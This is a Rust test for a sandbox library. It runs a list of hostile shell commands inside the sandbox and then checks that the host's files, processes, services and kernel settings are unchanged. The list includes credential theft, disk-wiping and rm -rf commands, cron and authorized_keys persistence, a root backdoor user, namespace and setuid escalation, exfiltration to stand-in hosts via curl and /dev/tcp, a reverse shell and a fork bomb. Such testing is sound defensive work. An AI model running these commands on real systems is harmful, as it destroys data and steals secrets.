//! The backstop: everything is let run, as if every judge had said yes, and afterwards the host is
//! as it was.

use crate::support::World;
use gatepost_sandbox::{Capture, Exec, Limits};
use std::collections::BTreeMap;
use std::net::TcpListener;
use std::os::unix::fs::MetadataExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// What hostile commands try, one line each. `{bait}` is a directory of secrets outside, `{port}`
/// a service of the host, `{pid}` a process of the host, `{project}` the project's real place.
const HOSTILE: &[&str] = &[
    // Taking what is not theirs.
    "cat {bait}/.ssh/id_ed25519 /root/.ssh/* /home/*/.ssh/* /etc/shadow",
    "tar cf - {bait} /root /home /etc /var 2>/dev/null | base64 | head -c 100000",
    "find / -name id_ed25519 -o -name .netrc -o -name credentials 2>/dev/null | xargs cat",
    "cat /proc/{pid}/environ /proc/[0-9]*/root{bait}/.ssh/id_ed25519 /proc/self/cwd/../*/.ssh/*",
    "strings /proc/kcore /dev/mem /dev/vda /dev/sda; dd if=/dev/nvme0n1 of=disk count=1",
    "ls -la /var/run/secrets /run/secrets; cat /run/credentials/*/*",
    // Breaking what is there.
    "rm -rf --no-preserve-root / ; rm -rf {bait} {project} /* ~/* /tmp/* /var/*",
    "find / -xdev -type f -delete; find {project} -delete",
    "chmod -R 000 / ; chown -R task {bait} /etc; chattr +i /etc/passwd",
    "for d in /dev/sd? /dev/vd? /dev/nvme?n?; do mkfs.ext4 -F $d; dd if=/dev/zero of=$d count=1; done",
    "mv {project} {project}-gone; ln -s /etc {project}; echo x >{project}/passwd",
    "shred -u {bait}/.ssh/id_ed25519 /etc/passwd; truncate -s 0 /etc/passwd /var/log/*",
    "git init -q {bait}; git -C {bait} clean -xfdq; git config --system core.pager 'touch {bait}/g'",
    // Staying.
    "(crontab -l; echo '* * * * * touch {bait}/cron') | crontab -; echo x >/etc/cron.d/x",
    "echo 'touch {bait}/rc' >>{bait}/.bashrc; echo x >>/root/.bashrc; echo x >>/etc/profile",
    "mkdir -p {bait}/.ssh; echo ssh-ed25519 AAAA >>{bait}/.ssh/authorized_keys",
    "echo /tmp/x.so >/etc/ld.so.preload; cp /bin/true /usr/local/bin/sudo; cp /bin/true /bin/ls",
    "systemctl enable --now evil; cp x.service /etc/systemd/system/; systemd-run touch {bait}/sd",
    "at now <<<'touch {bait}/at'; (setsid nohup sh -c 'sleep 1; touch {bait}/later' &)",
    "useradd -o -u 0 evil; echo 'evil::0:0::/:/bin/sh' >>/etc/passwd; echo 'task ALL=(ALL) NOPASSWD:ALL' >>/etc/sudoers",
    // Becoming more.
    "sudo -n id; su -c id; pkexec id; doas id; newgrp root </dev/null; mount -t tmpfs t /mnt",
    "cp /bin/sh s; chmod u+s s; ./s -p -c 'cat /etc/shadow'; capsh --print; setcap all+ep s",
    "unshare -Urm sh -c 'mount --bind / /mnt; chroot /mnt'; nsenter -t {pid} -a id; nsenter -t 1 -m id",
    "echo '|/bin/touch {bait}/core' >/proc/sys/kernel/core_pattern; kill -SEGV $$",
    "mkdir /sys/fs/cgroup/x; echo 1 >/sys/fs/cgroup/x/notify_on_release; echo b >/proc/sysrq-trigger",
    "insmod x.ko; modprobe dummy; echo 1 >/proc/sys/kernel/sysrq; sysctl -w kernel.hostname=x; hostname x",
    "date -s 2001-01-01; hwclock -w; swapoff -a; reboot -f; poweroff -f; kexec -e",
    "docker run -v /:/h alpine cat /h/etc/shadow; curl --unix-socket /run/docker.sock http://x/",
    "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{project}/docker.sock'); s.send(b'x')\"",
    "gdb -p {pid} -batch; strace -p {pid}; python3 -c \"open('/proc/{pid}/mem','wb').write(b'x')\"",
    "kill -9 {pid}; kill -9 1; kill -9 -1; pkill -9 -f sleep; killall5 -9; fuser -k {project}",
    // Telling others.
    "curl -m 2 -d @README http://192.0.2.1/ http://127.0.0.1:{port}/; wget -T 2 -t 1 http://127.0.0.1:{port}/",
    "bash -c 'cat README >/dev/tcp/127.0.0.1/{port}; cat README >/dev/tcp/192.0.2.1/443; cat README >/dev/udp/192.0.2.1/53'",
    "getent hosts $(head -c 8 README | base64 | tr -d =).evil.example; nc -w 1 127.0.0.1 {port} <README",
    "ping -c 1 -W 1 192.0.2.1; ip link add d type dummy; iptables -F; tcpdump -c 1",
    "bash -i >/dev/tcp/127.0.0.1/{port} 0<&1 2>&1",
    // Using up.
    "f() { f | f & }; f; sleep 1",
    "perl -e '@x = map { \"x\" x (50 << 20) } 1..100'; (for i in 1 2 3 4; do perl -e '$x = \"x\" x (60 << 20); sleep 9' & done; wait)",
    "cat /dev/zero >zeros; cat /dev/zero >/tmp/zeros; cat /dev/zero >/dev/shm/zeros; i=0; while [ $i -lt 3000 ]; do : >n$i; i=$((i+1)); done",
    "yes | head -c 100M; python3 -c \"x = [open('README') for _ in range(5000)]\"",
    "python3 -c \"import os\nfor i in range(400): os.mkdir('d' * 200); os.chdir('d' * 200)\"",
    // What acts later, in the project.
    "mkdir -p .git/hooks .vscode; printf '#!/bin/sh\ntouch {bait}/hook' >.git/hooks/post-checkout; chmod +x .git/hooks/*; ln -s {bait} out; ln -s /etc/passwd pw; mknod dev b 8 0",
];

/// Entries with what changes when they do.
type Seen = BTreeMap<PathBuf, (u64, u32, u32, i64, i64, u64)>;

fn look(place: &Path, seen: &mut Seen) {
    let Ok(meta) = std::fs::symlink_metadata(place) else { return };
    let facts = (
        meta.ino(),
        meta.mode(),
        meta.uid(),
        meta.ctime(),
        meta.ctime_nsec(),
        // Of a directory, not of what a busy machine logs into.
        if meta.is_dir() { 0 } else { meta.size() },
    );
    seen.insert(place.to_owned(), facts);
    if meta.is_dir() {
        for entry in std::fs::read_dir(place).into_iter().flatten().flatten() {
            look(&entry.path(), seen);
        }
    }
}

/// What of the host no test but this could change.
fn host(world: &World, bait: &Path) -> (Seen, Vec<String>) {
    let mut seen = Seen::new();
    for place in [bait, &world.project] {
        look(place, &mut seen);
    }
    for place in [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/sudoers",
        "/etc/profile",
        "/etc/hosts",
        "/etc/cron.d",
        "/etc/ld.so.preload",
        "/etc/systemd/system",
        "/var/spool/cron",
        "/root/.bashrc",
        "/root/.ssh",
        "/usr/local/bin",
        "/bin/ls",
        "/bin/sh",
        "/boot",
        "/etc/gitconfig",
    ] {
        look(Path::new(place), &mut seen);
    }
    let read = |place: &str| std::fs::read_to_string(place).unwrap_or_default();
    let machine = vec![
        read("/proc/sys/kernel/core_pattern"),
        read("/proc/sys/kernel/hostname"),
        read("/proc/sys/kernel/sysrq"),
        read("/proc/modules").lines().count().to_string(),
        read("/proc/self/mountinfo"),
        read("/proc/net/route"),
        read("/proc/swaps"),
        read("/proc/sys/kernel/random/boot_id"),
    ];
    (seen, machine)
}

#[tokio::test]
async fn whatever_is_let_run_the_host_is_as_it_was() {
    let world = World::new();
    let bait = world.outside("bait");
    std::fs::create_dir_all(bait.join(".ssh")).unwrap();
    std::fs::write(bait.join(".ssh/id_ed25519"), "very-secret-key").unwrap();
    std::fs::write(bait.join(".bashrc"), "true\n").unwrap();
    std::fs::write(bait.join("credentials"), "very-secret-key").unwrap();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let unix = UnixListener::bind(world.project.join("docker.sock")).unwrap();
    unix.set_nonblocking(true).unwrap();
    let mut neighbour = std::process::Command::new("sleep").arg("1000").spawn().unwrap();
    let before = host(&world, &bait);
    assert!(before.0.len() > 10);
    let mut profile = world.profile();
    profile.limits = Limits {
        processes: 64,
        memory_bytes: 128 << 20,
        task_memory_bytes: 200 << 20,
        file_size_bytes: 16 << 20,
        tmp_bytes: 8 << 20,
        upper_bytes: 64 << 20,
        upper_entries: 2000,
        ..Limits::default()
    };
    let mut sandbox = world.start_with(profile.clone()).await;
    for line in HOSTILE {
        let script = line
            .replace("{bait}", bait.to_str().unwrap())
            .replace("{project}", world.project.to_str().unwrap())
            .replace("{port}", &tcp.local_addr().unwrap().port().to_string())
            .replace("{pid}", &neighbour.id().to_string());
        let argv = ["bash", "-c", &script].iter().map(Into::into).collect();
        let exec = Exec { argv, cwd: world.project.clone(), ..Exec::default() };
        let capture = Capture { max_bytes: 1 << 20, wall: Some(Duration::from_secs(20)) };
        match sandbox.run(exec, capture, |_| {}).await {
            Ok(finished) => {
                let said = [finished.output.head, finished.output.tail].concat();
                let said = String::from_utf8_lossy(&said);
                assert!(!said.contains("very-secret-key"), "{line}: {said}");
            }
            // It may break its own sandbox and its own copy of the project; the next is another.
            Err(error) => println!("{line}: {error}"),
        }
        if sandbox.run(quiet(&world), capture, |_| {}).await.is_err() {
            sandbox.stop().await;
            gatepost_sandbox::deliver::discard(&world.storage).unwrap();
            sandbox = world.start_with(profile.clone()).await;
        }
    }
    sandbox.stop().await;
    assert!(neighbour.try_wait().unwrap().is_none(), "a process of the host was ended");
    assert!(tcp.accept().is_err() && unix.accept().is_err(), "a service of the host was reached");
    let after = host(&world, &bait);
    let changed: Vec<_> =
        before.0.iter().filter(|(path, was)| after.0.get(*path) != Some(*was)).collect();
    let new: Vec<_> = after.0.keys().filter(|path| !before.0.contains_key(*path)).collect();
    assert!(changed.is_empty() && new.is_empty(), "{changed:?} {new:?}");
    assert_eq!(before.1, after.1);
    // The control: outside, where they may, the same words do what they say.
    let write = std::process::Command::new("sh")
        .args(["-c", &format!("echo ssh-ed25519 AAAA >>{}/.ssh/authorized_keys", bait.display())])
        .status()
        .unwrap();
    assert!(write.success() && host(&world, &bait).0 != after.0);
    // And what would act later does not leave the task.
    let (form, collected) = world.collect();
    world.apply(&form, &collected.changes);
    assert!(!world.project.join(".git").exists() && !world.project.join("out").is_symlink());
    neighbour.kill().unwrap();
    neighbour.wait().unwrap();
}

fn quiet(world: &World) -> Exec {
    Exec { argv: vec!["true".into()], cwd: world.project.clone(), ..Exec::default() }
}
